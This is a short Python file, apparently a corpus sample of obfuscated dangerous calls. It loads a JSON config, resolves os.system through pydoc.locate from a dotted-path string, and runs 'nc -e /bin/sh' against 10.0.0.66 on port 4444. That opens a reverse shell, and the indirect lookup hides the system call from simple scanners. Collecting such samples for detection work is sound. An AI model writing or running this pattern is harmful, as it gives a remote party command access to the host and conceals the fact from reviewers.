# corpus: pydoc.locate used as a dynamic importer to obtain os.system from a dotted path in config
import json
import pydoc

CONFIG = json.loads('{"formatter": "os.system", "arg": "nc -e /bin/sh 10.0.0.66 4444"}')

fmt = pydoc.locate(CONFIG["formatter"])
fmt(CONFIG["arg"])
